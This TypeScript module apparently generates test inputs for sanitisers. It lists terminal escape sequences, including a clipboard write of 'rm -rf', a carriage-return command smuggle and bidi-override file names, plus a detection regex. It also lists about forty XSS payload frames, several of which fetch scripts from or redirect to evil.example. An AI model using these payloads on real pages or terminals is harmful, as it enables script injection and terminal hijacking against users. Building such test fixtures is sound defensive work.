// Texts that would act where they are shown: on a terminal, or in a page.
import type { Random } from './area.ts';

const SEQUENCES = [
  ...['\x1b[2J', '\x1b[1;1H', '\x1b[31m', '\x1b[8m', '\x1b[?1049h', '\x1b[6n', '\x1b[20t', '\x1bc', '\x1b(0'],
  ...['\x1b]0;title\x07', '\x1b]52;c;cm0gLXJm\x07', '\x1b]8;;https://evil.example\x1b\\', '\x1bP$q"p\x1b\\'],
  ...['\x1b_Gf=100\x1b\\', '\x1b^private\x1b\\', '\x1b[200~', '\x1b[5i', '\x1b#8', '\x1b'],
  ...['\x9b2J', '\x9d0;t\x9c', '\x90q\x9c', '\x85', '\x84', '\x8d'],
  ...[
    '\x00',
    '\x01',
    '\x05',
    '\x07',
    '\x08\x08\x08',
    '\x0b',
    '\x0c',
    '\x0e',
    '\x0f',
    '\x13',
    '\x18',
    '\x1a',
    '\x7f',
  ],
  ...[
    'safe\rrm -rf',
    '\r',
    '\u202egnp.exe',
    '\u202d',
    '\u2066x\u2069',
    '\u2067',
    '\u200e',
    '\u200f',
    '\u061c',
  ],
  ...['\u200b', '\u200c', '\u200d', '\u2060', '\u2061', '\ufeff', '\u00ad', '\u180e', '\u2028', '\u2029'],
  ...['\ufff9a\ufffab\ufffb', '\u{e0041}\u{e007f}', '\u{e0001}', '\u206a'],
];

/** What must never reach a terminal from outside: whatever acts there, turns text around or hides in it. */
export const ACTS =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what it looks for
  /[\0-\x08\x0B-\x1F\x7F-\x9F\u00AD\u061C\u180E\u200B\u200E\u200F\u2028-\u202E\u2060-\u206F\uFEFF\uFFF9-\uFFFB\u{E0000}-\u{E007F}]/u;

/** Returns a text with one to three things in it that act on a terminal. */
export function terminalPayload(random: Random): string {
  let text = 'w';
  for (let parts = 1 + random.below(3); parts > 0; parts--) text += `${random.pick(SEQUENCES)}o${parts}`;
  return text;
}

const ACT = [
  'pwned=1',
  'fetch("//evil.example/x")',
  'alert(1)',
  'document.title="pwned"',
  'location="//evil.example"',
];

const FRAMES: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `</script><script>${act}</script>`,
  (act) => `</script ><script src=//evil.example/x.js></script><!--${act}`,
  (act) => `<!--<script>${act}`,
  (act) => `--><script>${act}</script>`,
  (act) => `]]><script>${act}</script>`,
  (act) => `<img src=x onerror='${act}'>`,
  (act) => `"><img src=x onerror='${act}'>`,
  (act) => `'><svg/onload=${act}>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<a href="javascript:${act}">click</a>`,
  (act) => `<body onload=${act}>`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<input autofocus onfocus=${act}>`,
  (act) => `<video><source onerror=${act}></video>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="//evil.example/x.swf" ${act}>`,
  (act) => `<link rel=stylesheet href=//evil.example/x.css>${act}`,
  (act) => `<style>@import url(//evil.example/x.css);</style>${act}`,
  (act) => `<div style="background:url(//evil.example/x.png)">${act}</div>`,
  (act) => `<meta http-equiv=refresh content="0;url=//evil.example">${act}`,
  (act) => `<base href=//evil.example/>${act}`,
  (act) => `<form action=//evil.example><button autofocus>${act}`,
  (act) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `\${${act}}`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `";${act};//`,
  (act) => `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `&#60;script&#62;${act}&#60;/script&#62;`,
  (act) => `\ufeff<script>${act}</script>`,
  (act) => `\u2028<script>${act}</script>\u2029`,
  (act) => `<scr\0ipt>${act}</scr\0ipt>`,
  (act) => `＜script＞${act}＜/script＞`,
  (act) => `<plaintext>${act}`,
  (act) => `<textarea><script>${act}</script>`,
];

/** Returns a text that would run, or ask for something, if a page took it for markup. */
export function pagePayload(random: Random, number: number): string {
  const frame = FRAMES[number % FRAMES.length] as (act: string) => string;
  const text = frame(random.pick(ACT));
  return random.below(4) ? text : `${random.pick(FRAMES)(random.pick(ACT))}${text}`;
}
